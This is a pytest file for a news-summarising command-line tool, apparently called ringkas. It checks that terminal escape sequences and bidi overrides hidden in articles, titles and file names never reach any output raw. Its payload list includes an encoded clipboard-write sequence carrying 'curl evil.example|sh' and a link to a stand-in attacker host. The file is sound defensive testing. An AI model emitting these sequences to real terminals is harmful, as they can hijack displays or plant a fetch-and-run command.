"""Hostile text: terminal escapes and bidi overrides in articles, titles, JSON Lines fields and
file names never reach any output raw (issue 11, part 1).

Every payload goes through every output format and stderr, in process (CliRunner) so the
whole matrix runs in seconds; test_hostile.py covers the real entry point.
"""

from __future__ import annotations

import json
import re
from datetime import date
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ringkas.cli import app
from ringkas.cli import digest as digest_cli
from ringkas.pipeline import Options, build_report
from ringkas.render import RenderOptions
from ringkas.render.panels import render_panels
from ringkas.sanitize import clean_text, escape_name
from tests.conftest import FakeTranslator

PAYLOADS = {
    "clear-screen": "\x1b[2J\x1b[H",
    "osc8-link": "\x1b]8;;https://evil.example/x\x1b\\klik di sini\x1b]8;;\x1b\\",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
    "osc0-title": "\x1b]0;pwned-title\x07",
    "c1-csi": "\x9b2J\x9b31m",
    "bidi-override": "\u202eexe.txt",
}
# What a payload must never leave behind: its payload bytes (OSC strings, CSI parameters).
LEFTOVERS = ("evil.example", "Y3VybCBldmlsLmV4YW1wbGV8c2g", "pwned-title", "2J", "31m")
# Anything that drives a terminal: C0 but tab/newline, DEL, C1, and the bidi controls.
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
SGR = re.compile(r"\x1b\[[0-9;]*m")  # Rich's own colours, the only escapes ringkas may write
DAY = date(2026, 11, 27)
FORMATS = ["rich", "plain", "markdown", "json", "jsonl"]


def _article(payload: str) -> str:
    return (
        f"Banjir Melanda Jakarta{payload} Utara\n\n"
        f"Banjir setinggi satu meter{payload} melanda kawasan Jakarta Utara pada Senin pagi "
        "setelah hujan deras sepanjang malam. Ratusan rumah di Penjaringan dan Pluit terendam.\n\n"
        f'"Kami sudah siapkan dua puluh pompa{payload} air," kata Kepala BPBD DKI Jakarta, '
        f"Budi Santoso{payload}.\n\n"
        # Enough ordinary text that a few escape sequences are not mistaken for a binary file.
        + "Petugas terus memantau ketinggian air di pintu air Manggarai. "
        * 40
    )


def _name_safe(payload: str) -> str:
    return payload.replace("/", "_")  # a file name cannot hold "/"


# A file name keeps its payload, shown as visible escapes: leave names out of the leftover check.
NAMES = re.compile(r"xname-\S*")


def _assert_clean(output: str, payload: str, *, shows_bidi: bool = True) -> None:
    assert not RAW.search(SGR.sub("", output)), repr(output)
    for leftover in LEFTOVERS:
        assert leftover not in NAMES.sub("", output), leftover
    if "\u202e" in payload and shows_bidi:
        assert "U+202E" in output or "\\u202e" in output  # shown, not applied


def _invoke(*args: str, deps: digest_cli.DigestDeps | None = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, list(args), obj=deps)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def fixed_day(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(digest_cli, "_today", lambda: DAY)


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", list(PAYLOADS))
def test_summarize_output_is_clean_in_every_format(
    tmp_path: Path, name: str, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    payload = PAYLOADS[name]
    monkeypatch.chdir(tmp_path)  # a short relative name: Rich does not fold it
    path = f"xname-berita{_name_safe(payload)}.txt"
    Path(path).write_text(_article(payload), encoding="utf-8")
    code, out, err = _invoke("summarize", "--no-translate", "-f", fmt, "--quotes", "all", path)
    assert code == 0, err
    assert "Budi Santoso" in out  # the quote and its speaker made it, cleaned
    _assert_clean(out, payload)
    shown = json.loads(out)["source"] if fmt.startswith("json") else out
    assert escape_name(path) in shown or fmt == "markdown"


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_rich_panels_in_colour_write_only_their_own_colour_codes(name: str) -> None:
    from ringkas.document import Article

    payload = PAYLOADS[name]
    article = Article(id="t", source="t.txt", text=clean_text(_article(payload)))
    report = build_report(article, Options())
    out = render_panels(report, RenderOptions(width=80, color=True))
    assert "\x1b[" in out  # colour is on
    _assert_clean(out, payload)


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_jsonl_fields_and_sentences_are_clean(name: str) -> None:
    payload = PAYLOADS[name]
    record = {"id": f"xname-r{payload}", "title": f"Judul{payload}", "text": _article(payload)}
    line = json.dumps(record, ensure_ascii=False) + "\n"
    for args in (
        ["summarize", "--no-translate", "--jsonl", "-f", "json", "-"],
        ["summarize", "--no-translate", "--jsonl", "-f", "plain", "-"],
        ["sentences", "--jsonl", "-"],
        ["sentences", "-"],
    ):
        given = line if "--jsonl" in args else _article(payload)
        result = CliRunner().invoke(app, args, input=given.encode())
        assert result.exit_code == 0, result.stderr
        _assert_clean(result.stdout, payload)
        _assert_clean(result.stderr, payload, shows_bidi=False)


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_file_names_on_stderr_are_escaped(tmp_path: Path, name: str) -> None:
    payload = _name_safe(PAYLOADS[name])
    binary = tmp_path / f"xname-rusak{payload}.txt"
    binary.write_bytes(b"\x00\x01\x02" * 100)
    long = tmp_path / f"xname-panjang{payload}.txt"
    long.write_text(_article("") * 20, encoding="utf-8")
    code, out, err = _invoke(
        "summarize", "--no-translate", "-f", "plain", "--max-chars", "500", str(binary), str(long)
    )
    assert code == 1
    lines = err.splitlines()
    assert lines[0] == f"Error: {escape_name(str(binary))}: looks like a binary file, not text " \
        "(it holds NUL bytes)"  # fmt: skip
    assert lines[1].startswith(f"Note: {escape_name(str(long))} is too long")
    _assert_clean(err, PAYLOADS[name])
    _assert_clean(out, PAYLOADS[name])


@pytest.mark.parametrize("fmt", ["markdown", "html", "json"])
@pytest.mark.parametrize("name", list(PAYLOADS))
def test_digest_is_clean_in_every_format(
    tmp_path: Path, name: str, fmt: str, fixed_day: None
) -> None:
    payload = PAYLOADS[name]
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    article = _article(payload)
    (inbox / f"xname-berita{_name_safe(payload)}.txt").write_text(article, encoding="utf-8")
    (inbox / f"xname-rusak{_name_safe(payload)}.txt").write_bytes(b"\x00" * 64)
    out = tmp_path / "out"
    fake = digest_cli.DigestDeps(open_translator=lambda m, lock, **_: FakeTranslator())
    args = ("digest", str(inbox), "--out", f"{out}/", "--format", fmt)
    code, stdout, err = _invoke(*args, deps=fake)
    assert code == 1, err  # the binary file is not processed, and listed
    text = next(out.iterdir()).read_text(encoding="utf-8")
    assert "Budi Santoso" in text
    assert "rusak" in text
    _assert_clean(text, payload)
    _assert_clean(err, payload)
    _assert_clean(stdout, payload, shows_bidi=False)


def test_clean_text_keeps_layout_and_is_stable() -> None:
    text = "Satu\tdua\r\ntiga\x0cempat \x1b[1mtebal\x1b[0m \x07lima\x7f\x85"
    assert clean_text(text) == "Satu\tdua\ntiga\n\nempat tebal lima"
    assert clean_text(clean_text(text)) == clean_text(text)
    # An unterminated OSC string stops at the line end: one stray ESC cannot eat the article.
    assert clean_text("a\x1b]0;judul\nParagraf berikut.") == "a\nParagraf berikut."


def test_the_real_entry_point_on_a_terminal_writes_only_colour_codes(tmp_path: Path) -> None:
    # The default on a terminal: Rich panels in colour, stderr a terminal too.
    import os
    import pty
    import subprocess
    import sys

    names = []
    for name, payload in PAYLOADS.items():
        names.append(f"xname-{name}{_name_safe(payload)}.txt")
        (tmp_path / names[-1]).write_text(_article(payload), encoding="utf-8")
    (tmp_path / f"xname-rusak{PAYLOADS['osc52-clipboard']}.txt").write_bytes(b"\x00" * 9)
    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "ringkas", "summarize", "--no-translate", "."],
        stdout=follower,
        stderr=follower,
        stdin=subprocess.DEVNULL,
        cwd=tmp_path,
        env={**os.environ, "TERM": "xterm-256color", "COLUMNS": "100"},
    )
    os.close(follower)
    chunks = []
    while True:
        try:
            data = os.read(leader, 65536)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    os.close(leader)
    assert proc.wait(timeout=120) == 1  # the binary file
    screen = b"".join(chunks).decode("utf-8", "replace")
    assert screen.count("Budi Santoso") >= len(PAYLOADS)
    # Rich's colours and the progress line's cursor moves are ringkas's own; nothing else.
    own = re.compile(r"\x1b\[[0-9;]*m|\x1b\[\?25[lh]|\x1b\[[0-9]*[AK]|\r")
    _assert_clean(own.sub("", screen), "\u202e")
